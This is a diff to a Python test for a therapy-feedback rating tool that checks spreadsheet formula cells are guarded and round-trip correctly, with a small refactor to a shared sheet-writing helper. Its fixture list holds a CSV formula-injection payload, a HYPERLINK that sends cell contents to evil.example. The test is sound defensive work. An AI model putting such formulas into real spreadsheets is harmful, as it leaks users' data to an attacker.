@@ -10,7 +10,7 @@ from therapy_rlhf.contracts.records import PendingResponse, dump_batch
 from therapy_rlhf.feedback.csv_cells import FORMULA_STARTS, guard, unguard
 
 from .test_cli_commands import PATHS, RUN, seed_run
-from .test_rate_from_file_and_pending import CRITERIA, cli, stored
+from .test_rate_from_file_and_pending import CRITERIA, cli, stored, write_sheet
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -41,11 +41,7 @@ def test_formula_cells_are_quoted_and_the_sheet_round_trips(local_store, capsys,
     # the psychologist fills the sheet in; the guarded columns are information only on import
     for r in rows:
         r.update(dict.fromkeys(CRITERIA, "2"))
-    out = io.StringIO()
-    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
-    writer.writeheader()
-    writer.writerows(rows)
-    sheet.write_text(out.getvalue())
+    write_sheet(sheet, rows)
     code, _, err = cli(capsys, "rate", RUN, "--from", str(sheet), "--rater", "dr-lee", "--store", local_store.uri)
     assert code == 0, err
     assert len(stored(local_store)) == len(HOSTILE)
